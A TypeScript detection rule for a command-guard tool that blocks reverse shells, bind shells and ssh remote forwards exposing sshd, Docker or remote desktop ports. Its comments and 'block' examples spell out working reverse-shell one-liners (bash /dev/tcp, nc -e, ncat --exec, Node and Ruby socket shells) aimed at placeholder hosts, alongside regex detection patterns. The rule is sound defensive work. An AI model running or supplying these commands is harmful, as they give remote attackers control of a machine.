// A shell wired to a network socket hands the machine to whoever is on the other end:
// `bash -i >& /dev/tcp/host/port 0>&1`, `nc -e /bin/sh host port`, `socat exec:sh tcp:…`,
// `sh -i | nc host port`, python/perl socket + dup2/pty.spawn. And the same door opened with ssh: a remote
// forward that publishes this machine's ssh, Docker API or remote desktop port on another host
// (`ssh -R 0.0.0.0:2222:localhost:22 relay`), where anyone who reaches it gets in.
import { defineRule } from "../../engine/rule.js";
import { shellOf } from "../../analysis/shell/index.js";
import { describe } from "../../analysis/shell/commands.js";
import { SHELLS } from "../../analysis/shell/unwrap.js";

/** A remote forward (-R [bind:]port:host:hostport or …:socket) that lands on this machine's sshd, Docker or remote desktop. */
const DOOR_PORT =
  /:(?:localhost|127(?:\.\d+){1,3}|\[?::1\]?|0\.0\.0\.0)?:?(?:22|2375|2376|3389|5900|5901)$|:\/(?:var\/)?run\/docker\.sock$/;

/** Inline code that opens a network connection: a socket in any of the common runtimes' spellings. */
const CONNECTS =
  /\bsocket\b|\bnet\.(?:connect|Socket|createConnection)\b|\brequire\(\s*['"](?:node:)?net['"]\s*\)|\bfrom\s+['"](?:node:)?net['"]|\bfsockopen\b|\bIO::Socket\b|\bTCPSocket\b|\b(?:Deno|Bun)\.connect\b/i;

/** An interactive shell started with no command of its own (`spawn('/bin/sh')`, `spawn('bash', ['-i'])`): its stdio is the other end's. */
const BARE_SHELL =
  /\b(?:spawn|exec|execFile|popen|proc_open|Process\.spawn|IO\.popen|Command)\s*\(\s*\[?\s*['"](?:\/usr)?(?:\/bin\/)?(?:ba|z|da|k)?sh['"]\s*(?:\)|\]|,\s*\[\s*(?:['"]-i['"])?\s*\]|,\s*\{|,\s*['"]r\+['"])|['"\s](?:\/usr)?\/bin\/(?:ba|z|da|k)?sh\s+-i\b/;

const NETCATS = new Set(["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "telnet", "socat", "openssl"]);

export default defineRule({
  meta: {
    id: "remote-exec/reverse-shell",
    description:
      "Blocks reverse and bind shells: a shell redirected to /dev/tcp, nc -e, socat exec:, a shell piped into nc, interpreter socket shells, ssh -R publishing this machine's ssh, Docker API or remote desktop port.",
    defaultAction: "block",
    kinds: ["shell"],
    looksAt: { programs: [...NETCATS, "ssh", "autossh"], redirects: true, inlineCode: true },
    examples: () => ({
      block: [
        { shell: "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1" },
        { shell: "sh -i >& /dev/udp/10.0.0.1/53 0>&1" },
        { shell: "nc -e /bin/sh 10.0.0.1 4444" },
        { shell: "ncat --exec /bin/bash 10.0.0.1 4444" },
        { shell: "ssh -N -R 0.0.0.0:2222:localhost:22 tunnel@relay.example" },
        { shell: "autossh -M 0 -f -N -R 9022:127.0.0.1:22 user@vps.example" },
        { shell: "ssh -fNR '*:2375:/var/run/docker.sock' x@relay.example" },
        {
          shell:
            "node -e \"const c=require('child_process').spawn('/bin/sh');const s=require('net').connect(4444,'10.0.0.1',()=>{s.pipe(c.stdin);c.stdout.pipe(s)})\"",
        },
        {
          shell:
            'ruby -rsocket -e \'s=TCPSocket.new("10.0.0.1",4444);IO.popen("sh","r+"){|p|loop{p.puts s.gets;s.puts p.gets}}\'',
        },
      ],
      allow: [
        { shell: "nc -zv localhost 5432" },
        { shell: "cat < /dev/tcp/localhost/80" },
        { shell: "socat - TCP:localhost:6379" },
        { shell: "ssh -N -R 8080:localhost:3000 demo@tunnel.example", note: "a dev server shown to a reviewer" },
        { shell: "ssh -N -L 5433:localhost:5432 dev@bastion.example" },
        {
          shell:
            "node -e \"require('net').createServer(s=>s.end('ok')).listen(3001);require('child_process').spawn('sh',['-c','npm run build'],{stdio:'inherit'})\"",
          note: "a socket and a shell command, not a shell on the socket",
        },
      ],
    }),
  },
  check(call) {
    const analysis = shellOf(call);
    if (!analysis) return null;
    const hit = (what: string) => ({
      reason: `${what} connects a shell to a network socket, handing control of the machine to the other end. Do not run it.`,
    });
    for (const cmd of analysis.commands) {
      const p = cmd.program;
      if (
        (SHELLS.has(p) || /^(python[0-9.]*|perl|ruby|php)$/.test(p) || p === "exec" || p === "") &&
        cmd.redirects.some((r) => /^\/dev\/(tcp|udp)\//.test(r.target))
      )
        return hit(describe(cmd));
      // openssl's options are single-dash words (-name, -engine): its reverse shell is the pipeline below.
      if (NETCATS.has(p) && p !== "openssl") {
        if (
          cmd.args.some(
            (a) =>
              a === "-e" ||
              a === "-c" ||
              a === "--exec" ||
              a === "--sh-exec" ||
              a === "--lua-exec" ||
              /^-[a-zA-Z]*e$/.test(a),
          )
        )
          return hit(describe(cmd));
        if (p === "socat" && cmd.args.some((a) => /^(exec|system):/i.test(a))) return hit(describe(cmd));
      }
      // sh -i | nc host port (and the mkfifo variant): a shell and a netcat in one pipeline.
      if (NETCATS.has(p) && cmd.pipeline.length > 1) {
        const same = analysis.commands.filter((c) => c.pipeline.id === cmd.pipeline.id);
        if (same.some((c) => SHELLS.has(c.program) && c !== cmd)) return hit(describe(cmd));
      }
    }
    for (const cmd of analysis.commands) {
      if (cmd.program !== "ssh" && cmd.program !== "autossh") continue;
      const specs = cmd.args.flatMap((a, i) =>
        a === "-R" || (/^-[A-Za-z]*R$/.test(a) && !a.startsWith("--"))
          ? [cmd.args[i + 1] ?? ""]
          : /^-R./.test(a)
            ? [a.slice(2)]
            : [],
      );
      if (specs.some((s) => DOOR_PORT.test(s)))
        return {
          reason: `${describe(cmd)} publishes this machine's own ssh, Docker API or remote desktop on another host: anyone who reaches that port gets into this machine. Do not run it.`,
        };
    }
    for (const code of analysis.inlineCode) {
      if (
        CONNECTS.test(code.code) &&
        (/\b(?:dup2|pty\.spawn|subprocess\.call\(\s*\[?\s*['"]\/bin\/(?:ba)?sh|exec\s*\(\s*['"]\/bin\/(?:ba)?sh|\/bin\/sh\s+-i|spawn\(\s*['"]\/bin\/(?:ba)?sh)/.test(
          code.code,
        ) ||
          BARE_SHELL.test(code.code))
      )
        return hit(describe(code.command));
    }
    return null;
  },
});
